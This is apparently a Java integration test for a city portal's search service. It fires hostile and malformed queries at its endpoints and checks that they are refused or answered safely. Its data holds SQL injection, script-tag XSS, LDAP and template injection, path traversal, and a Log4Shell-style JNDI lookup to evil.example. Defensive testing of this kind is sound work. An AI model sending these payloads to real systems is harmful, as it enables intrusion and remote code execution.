package de.stadtportal.e2e;

import static de.stadtportal.e2e.HostileRequests.answered;
import static de.stadtportal.e2e.HostileRequests.refused;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import de.stadtportal.e2e.HostileRequests.Hostile;
import de.stadtportal.launcher.LocalPlatform;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * Malformed and hostile requests against search-service's endpoints (search, suggestions, the
 * admin's reindex), judged by {@link HostileRequests}; afterwards no reindex has started and search
 * holds nothing the corpus carried.
 * <p>
 * No case is left out: the chunked body over 256 KiB sent to the reindex, which never reads its
 * body, is in the table since it was fixed.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileSearchInputIT {

    private static final HostileRequests HOSTILE = HostileRequests.marked("feindsuche");
    private static final String MARKER = HOSTILE.marker();

    private static Gateway gateway;
    private static PlatformIssuer issuer;
    private static long generationBefore;

    @BeforeAll
    static void theReindexGenerationBefore() {
        LocalPlatform platform = RunningPlatform.get();
        gateway = new Gateway(platform.gatewayUrl());
        issuer = PlatformIssuer.of(RunningPlatform.get());
        generationBefore = generation();
    }

    @Order(1)
    @TestFactory
    Stream<DynamicTest> every_hostile_request_gets_no_5xx_and_every_refusal_is_a_problem_document() {
        List<Hostile> corpus = corpus();
        System.out.println("HostileSearchInputIT: " + corpus.size() + " hostile requests");
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(63);
        return corpus.stream().map(hostile -> dynamicTest(HOSTILE.name(hostile, null),
                () -> HostileRequests.judge(hostile, gateway, issuer.admin())));
    }

    @Order(2)
    @Test
    void nothing_the_hostile_requests_carried_was_written() {
        assertThat(generation()).as("no reindex started").isEqualTo(generationBefore);
        Gateway.Answer found = gateway.send("GET", "/api/search?q=" + MARKER + "&limit=100", issuer.admin(), null,
                Map.of());
        assertThat(found.status()).as(found.raw().body()).isEqualTo(200);
        assertThat(found.body().path("hits")).as("found by the marker").isEmpty();
    }

    // ---- the corpus

    private static List<Hostile> corpus() {
        List<Hostile> corpus = new ArrayList<>();

        // the admin's reindex: nothing to parse, but no other method and no oversized body
        corpus.add(refused("POST", "/api/search/reindex", "an oversized body")
                .body("application/json", HOSTILE.oversizedJson()));
        corpus.add(refused("POST", "/api/search/reindex", "an oversized chunked body")
                .chunked("application/json", HOSTILE.oversizedJson()));

        corpus.addAll(wrongMethods());
        corpus.addAll(queries());
        return corpus;
    }

    private static List<Hostile> wrongMethods() {
        return List.of(
                refused("POST", "/api/search", "POST on search").body("application/json", "{\"q\":\"x\"}"),
                refused("DELETE", "/api/search/suggest", "DELETE on suggest"),
                refused("PUT", "/api/search/reindex", "PUT on reindex"),
                refused("DELETE", "/api/search/reindex", "DELETE on reindex"));
    }

    /** Query parameters: refused when they are not what the parameter takes, answered when they are only odd text. */
    private static List<Hostile> queries() {
        String garbageCursor = "%E2%98%83%E2%98%83";
        String foreignCursor = Base64.getUrlEncoder().withoutPadding()
                .encodeToString("c1\u001f' OR 1=1 --\u001fnot-a-uuid".getBytes(StandardCharsets.UTF_8));
        String nanCursor = Base64.getUrlEncoder().withoutPadding()
                .encodeToString("c1\u001fNaN\u001farticle\u001fx".getBytes(StandardCharsets.UTF_8));
        List<Hostile> cases = new ArrayList<>();
        String list = "/api/search?q=Konzert";
        for (String limit : List.of("-1", "0", "101", "1e9", "99999999999999999999", "zehn")) {
            cases.add(refused("GET", list + "&limit=" + limit, "limit=" + limit));
        }
        cases.add(refused("GET", list + "&cursor=" + garbageCursor, "a cursor of snowmen"));
        cases.add(refused("GET", list + "&cursor=" + foreignCursor, "a cursor with SQL inside"));
        cases.add(refused("GET", "/api/search?q=Konzert&cursor=" + nanCursor, "a cursor with NaN as score"));
        for (String search : List.of("q=" + "x".repeat(201), "type=everything", "type=article,%3Cscript%3E",
                "city=%27%20OR%201%3D1", "topic=%24%7B7*7%7D", "category=..%2F..", "from=2027-02-30", "to=gestern",
                "from=2027-03-01&to=2027-02-01", "city=" + cities(21))) {
            cases.add(refused("GET", "/api/search?" + search, search));
        }
        cases.add(refused("GET", "/api/search?from=%2B999999999-12-31T23:59:59%2B18:00", "search from year 999999999"));
        cases.add(refused("GET", "/api/search?to=%2B999999999-12-31", "search to year 999999999"));
        cases.add(refused("GET", "/api/search/suggest?q=" + "x".repeat(201), "suggest with 201 characters"));
        cases.add(refused("GET", "/api/search/suggest?q=Kon&city=%3Cscript%3E", "suggest in a script tag city"));

        // odd text where text is welcome: answered (200), never a 5xx
        for (String q : List.of("%27%20OR%20%271%27%3D%271%27%20--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "%24%7B7*7%7D", "*%29%28uid%3D*%29%29%28%7C%28uid%3D*",
                "%E2%80%AEtrezno%E2%80%AC", "Kon%E2%80%8Bzert", "%F0%9F%8E%89%F0%9F%8E%B6", "%ED%A0%80", "%00",
                "a%20%26%20%7C%20!%20(%20)%20%3A*", "%5C", "%22%22%22", "!!!", "%3A*", "%25", "%E2%80%8B")) {
            cases.add(answered("GET", "/api/search?q=" + q, "search for " + q));
            cases.add(answered("GET", "/api/search/suggest?q=" + q, "suggest for " + q));
        }
        return cases;
    }

    private static long generation() {
        Gateway.Answer answer = gateway.send("GET", "/api/search/reindex", issuer.admin(), null, Map.of());
        assertThat(answer.status()).as(answer.raw().body()).isEqualTo(200);
        return answer.body().path("generation").asLong();
    }

    private static String cities(int count) {
        List<String> slugs = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            slugs.add("stadt" + i);
        }
        return String.join(",", slugs);
    }
}
